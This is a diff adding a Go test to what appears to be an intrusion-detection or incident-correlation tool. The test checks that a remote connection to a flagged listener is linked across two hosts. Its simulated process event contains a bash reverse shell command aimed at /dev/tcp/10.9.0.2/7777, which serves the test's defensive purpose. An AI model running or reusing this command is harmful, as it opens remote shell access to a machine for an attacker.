@@ -233,6 +233,23 @@ func TestServerThatAMemberAskedDoesNotJoin(t *testing.T) {
 	}
 }
 
+// The number of programs that a found listener ran before does not cut it off from who opened its connection.
+func TestListenerThatRanManyProgramsKeepsItsConnection(t *testing.T) {
+	for _, n := range []int{0, 40} {
+		w := newTwo()
+		w.b.start("tool", "init", 31, "/home/u/tool", "/home/u/tool")
+		w.b.detect(w.b.net(event.NetListen, "tool", "0.0.0.0:7777", "0.0.0.0:0"), "listener", detection.High)
+		w.b.like(n, "tool", 1000, "/usr/bin/id", "id")
+		w.b.wait(60)
+		w.meet()
+		w.a.start("shell", "init", 31, "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/10.9.0.2/7777 0>&1")
+		w.a.net(event.NetConnect, "shell", "10.9.0.1:42748", "10.9.0.2:7777")
+		w.meet()
+		w.b.net(event.NetAccept, "tool", "10.9.0.2:7777", "10.9.0.1:42748")
+		wantEdge(t, w.all().story(), incident.EdgeHostToHost, 1)
+	}
+}
+
 // A file that one request dropped is run by another request from a second host: that connection is told, although only the
 // file leads to what it started.
 func TestProgramThatOnlyAFileLeadsToKeepsItsConnection(t *testing.T) {
